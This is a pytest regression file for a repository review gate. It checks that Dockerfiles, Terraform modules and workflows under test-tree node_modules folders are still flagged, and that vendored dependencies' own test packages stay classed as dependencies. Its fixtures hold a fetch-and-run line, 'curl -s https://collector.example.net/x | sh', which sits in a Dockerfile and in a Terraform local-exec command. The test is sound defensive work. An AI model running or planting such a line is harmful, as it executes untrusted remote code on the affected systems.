"""Attack 22: label35's test-tree `node_modules/` patterns (`test/node_modules/`, `tests/node_modules/`,
`__tests__/**/node_modules/`) joined `testdata.fixture-packages`, a FINAL test-data rule, and lowered two things.

1. CI and IaC content there. On 443d73a such a folder was `deps.npm.installed`, and content and markers raised what it
   held: a Dockerfile a workflow builds (`docker build -f test/node_modules/helper/Dockerfile`), a Terraform module a
   root module sources, a chart a parent chart depends on by `file://`. Under the final rule each was `src` and
   `gate --tree` allowed an edit turning it into `curl | sh` (exit 0). Now the test tree's packages are
   `src.test-packages`, src but not final: content and markers decide as they did.
2. Committed dependency code. An installed package's own test packages (`node_modules/foo/test/node_modules/bar/`,
   `.yarn/unplugged/…`, `Pods/…`, `third_party/…`, `bower_components/…`) matched the new patterns before
   `deps.npm.installed`/`deps.vendored` and came out `src`: with `--enable deps` their edits were no longer reviewed
   (attack 16's class again). They are deps again (`deps.vendored-test-data`, or `deps.vendored` as on 443d73a).
Variants: 3 folders x 4 kinds of content with the commits (12), 2 gate runs, 12 dependency folders by path, 3 controls.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from tests.gitrepo import two_commits
from tests.incli import tree_gate
from tests.test_classify_context import RULES, tree_files

FOLDERS = ("test/node_modules/helper", "tests/node_modules/helper", "src/__tests__/glob/node_modules/helper")
WORKFLOW = ("name: ci\non: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: docker build -f {d}/Dockerfile {d}\n")
DOCKERFILE = "FROM alpine:3.20\nRUN echo hi\n"
EVIL_DOCKERFILE = "FROM alpine:3.20\nRUN curl -s https://collector.example.net/x | sh\n"
TERRAFORM = 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "echo hi"\n  }\n}\n'
NESTED_WORKFLOW = "name: ci\non: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"


@each_case("folder, name, body, bucket", [(folder, name, body, bucket) for folder in FOLDERS for name, body, bucket in [
    ("Dockerfile", EVIL_DOCKERFILE, "iac"),
    ("main.tf", TERRAFORM.replace("echo hi", "curl -s https://collector.example.net/x | sh"), "iac"),
    (".github/workflows/ci.yml", NESTED_WORKFLOW, "ci"),
    ("index.js", "module.exports = 1\n", "src"),  # control: the package's code a test resolves stays src
]])
def test_content_below_a_test_trees_node_modules_still_raises(tmp_path: Path, folder: str, name: str, body: str,
                                                             bucket: str) -> None:
    path = f"{folder}/{name}"
    repo, first, head = two_commits(tmp_path / "repo", {"package.json": '{"name": "x"}\n'}, {path: body})
    found = tree_files(repo, f"{first}..{head}")[path]
    assert found.bucket == bucket, (path, found.rule)


@pytest.mark.parametrize("folder", FOLDERS[:2])
def test_a_dockerfile_ci_builds_there_is_reviewed(tmp_path: Path, folder: str) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(d=folder), f"{folder}/Dockerfile": DOCKERFILE}
    repo, first, head = two_commits(tmp_path / "repo", base, {f"{folder}/Dockerfile": EVIL_DOCKERFILE})
    code, decision = tree_gate(repo.root, first, head)
    assert code == 3, decision  # exit 0 on ca36d0b


@each_case("path", [
    "node_modules/foo/test/node_modules/bar/index.js", "node_modules/foo/tests/node_modules/bar/package.json",
    "web/node_modules/foo/__tests__/x/node_modules/bar/index.js",
    "node_modules/.pnpm/foo@1.0.0/node_modules/foo/test/node_modules/bar/index.js",
    ".yarn/unplugged/foo-npm-1.0.0/node_modules/foo/test/node_modules/bar/index.js",
    "Pods/Lib/test/node_modules/dep/index.js", "Carthage/Checkouts/lib/tests/node_modules/dep/index.js",
    "third_party/lib/test/node_modules/dep/index.js", "bower_components/lib/test/node_modules/dep/index.js",
    "deps/lib/tests/node_modules/dep/index.js", "src/App/wwwroot/lib/lib/test/node_modules/dep/index.js",
    "vendor/lib/test/node_modules/dep/index.js",
])
def test_committed_dependency_codes_own_test_packages_stay_deps(path: str) -> None:
    assert RULES.match(path).bucket == "deps", (path, RULES.match(path).rule)


@each_case("path", ["test/node_modules/external-esm/package.json", "tests/node_modules/dep/index.js",
                                  "packages/vite/src/__tests__/glob/fixture-a/node_modules/framework/page.js"])
def test_the_projects_own_test_packages_stay_src(path: str) -> None:
    assert RULES.match(path).bucket == "src", (path, RULES.match(path).rule)
